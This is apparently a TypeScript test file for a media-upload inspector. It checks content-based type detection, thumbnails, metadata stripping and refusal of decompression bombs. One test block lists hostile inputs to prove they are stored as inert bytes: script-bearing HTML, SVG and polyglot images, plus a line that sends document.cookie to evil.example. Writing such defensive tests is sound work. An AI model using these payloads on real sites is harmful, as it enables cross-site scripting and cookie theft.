import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import sharp from 'sharp'
import { describe, expect, test } from 'vitest'
import { mediaInspector } from '#server/media/inspect.ts'
import { aTestDirectory } from '#tests/support/app.ts'
import { anMp4, aPdf, aPicture, aPixelBomb, aTextBomb, aWav } from '#tests/support/files.ts'

const inspect = mediaInspector({ maxPixels: 50_000_000 })
const OCTETS = {
  kind: 'document',
  mime: 'application/octet-stream',
  width: null,
  height: null,
  thumbnail: null,
}

describe('what a file is, is read from the file', () => {
  for (const format of ['png', 'jpeg', 'gif', 'webp', 'avif'] as const) {
    test(`a ${format} is an image with a small upright WebP beside it`, async () => {
      const { thumbnail, ...rest } = await inspect({
        bytes: await aPicture({ format, width: 1200, height: 800 }),
      })
      expect(rest).toEqual({ kind: 'image', mime: `image/${format}`, width: 1200, height: 800 })
      expect(await sharp(thumbnail ?? undefined).metadata()).toMatchObject({
        format: 'webp',
        width: 480,
        height: 320,
      })
    })
  }

  test('a file on disk is read like bytes in memory', async () => {
    const path = join(aTestDirectory(), 'upload')
    writeFileSync(path, await aPicture())
    expect(await inspect({ path })).toEqual(await inspect({ bytes: await aPicture() }))
  })

  test('video, sound and documents are known by their content', async () => {
    expect(await inspect({ bytes: anMp4() })).toMatchObject({ kind: 'video', mime: 'video/mp4' })
    expect(await inspect({ bytes: aWav() })).toMatchObject({ kind: 'audio', mime: 'audio/wav' })
    expect(await inspect({ bytes: aPdf() })).toMatchObject({ kind: 'document', mime: 'application/pdf' })
  })

  test('pictures that browsers cannot show are documents', async () => {
    expect(await inspect({ bytes: await aPicture({ format: 'tiff' }) })).toMatchObject({
      kind: 'document',
      mime: 'image/tiff',
      thumbnail: null,
    })
  })
})

test('a picture taken with a turned camera is measured and shown upright, without its metadata', async () => {
  const bytes = await aPicture({ format: 'jpeg', width: 600, height: 400, orientation: 6 })
  expect((await sharp(bytes).metadata()).orientation).toBe(6)
  const { thumbnail, width, height } = await inspect({ bytes })
  expect([width, height]).toEqual([400, 600])
  const shown = await sharp(thumbnail ?? undefined).metadata()
  expect([shown.width, shown.height]).toEqual([320, 480])
  expect([shown.exif, shown.icc, shown.xmp, shown.orientation]).toEqual([
    undefined,
    undefined,
    undefined,
    undefined,
  ])
})

test('a small picture is not blown up', async () => {
  const { thumbnail } = await inspect({ bytes: await aPicture({ width: 20, height: 10 }) })
  expect(await sharp(thumbnail ?? undefined).metadata()).toMatchObject({ width: 20, height: 10 })
})

describe('what could carry a script is never more than bytes to save', () => {
  const hostile = {
    HTML: '<!doctype html><html><body><script>alert(1)</script></body></html>',
    'HTML without a doctype': '<script>alert(document.domain)</script>',
    SVG: '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>',
    'SVG with a declaration':
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    XHTML: '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    JavaScript: 'fetch("//evil.example/" + document.cookie)',
    'plain text': 'hello',
  }
  for (const [name, text] of Object.entries(hostile)) {
    test(name, async () => expect(await inspect({ bytes: Buffer.from(text) })).toEqual(OCTETS))
  }

  test('a picture that only begins like one', async () => {
    const png = await aPicture()
    const disguised = Buffer.concat([png.subarray(0, 33), Buffer.from('<script>alert(1)</script>')])
    expect(await inspect({ bytes: disguised })).toMatchObject({ thumbnail: null })
    const gif = Buffer.from('GIF89a<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    expect(await inspect({ bytes: gif })).toMatchObject({ thumbnail: null })
  })

  test('the decoder itself does not take SVG', async () => {
    await expect(sharp(Buffer.from(hostile.SVG)).metadata()).rejects.toThrow()
  })
})

describe('pictures that are too much', () => {
  test('a decompression bomb is refused by its header, without unpacking it', async () => {
    const bytes = aPixelBomb()
    expect(bytes.length).toBeLessThan(100_000)
    const before = process.resourceUsage().maxRSS
    await expect(inspect({ bytes })).rejects.toMatchObject({ code: 'image_too_large', status: 413 })
    // 400 megapixels would be 400 MB at least; maxRSS counts kilobytes.
    expect(process.resourceUsage().maxRSS - before).toBeLessThan(100_000)
  })

  test('is refused where one side is endless, which takes minutes to make small', async () => {
    const line = { create: { width: 16_384, height: 1, channels: 3, background: '#0f766e' } } as const
    const bytes = await sharp(line).png().toBuffer()
    await expect(inspect({ bytes })).rejects.toMatchObject({ code: 'image_too_large', status: 413 })
  })

  test('the cap is exact', async () => {
    const small = mediaInspector({ maxPixels: 64 * 48 })
    expect(await small({ bytes: await aPicture({ width: 64, height: 48 }) })).toMatchObject({ width: 64 })
    await expect(small({ bytes: await aPicture({ width: 64, height: 49 }) })).rejects.toMatchObject({
      code: 'image_too_large',
    })
  })

  test('a picture whose comments would unpack to gigabytes is not unpacked', async () => {
    expect(await inspect({ bytes: aTextBomb() })).toEqual(OCTETS)
    const path = join(aTestDirectory(), 'bomb')
    writeFileSync(path, aTextBomb())
    expect(await inspect({ path })).toEqual(OCTETS)
  })

  test('many at once are all looked at', async () => {
    const bytes = await aPicture({ width: 900, height: 900 })
    const all = await Promise.all(Array.from({ length: 12 }, () => inspect({ bytes })))
    expect(all.map(({ kind, thumbnail }) => [kind, thumbnail !== null])).toEqual(
      Array(12).fill(['image', true]),
    )
  })

  test('one that fails does not keep its place: the next ones still get theirs', async () => {
    const small = mediaInspector({ maxPixels: 100 })
    const refused = Array.from({ length: 6 }, async () => small({ bytes: await aPicture() }))
    expect((await Promise.allSettled(refused)).every(({ status }) => status === 'rejected')).toBe(true)
    expect(await small({ bytes: await aPicture({ width: 9, height: 9 }) })).toMatchObject({ kind: 'image' })
  })
})

test('a damaged picture is kept as an image without a thumbnail or with what can be read', async () => {
  const whole = await aPicture({ format: 'jpeg', width: 800, height: 800 })
  const { kind, width } = await inspect({ bytes: whole.subarray(0, whole.length / 2) })
  expect([kind, width]).toEqual(['image', 800])
})
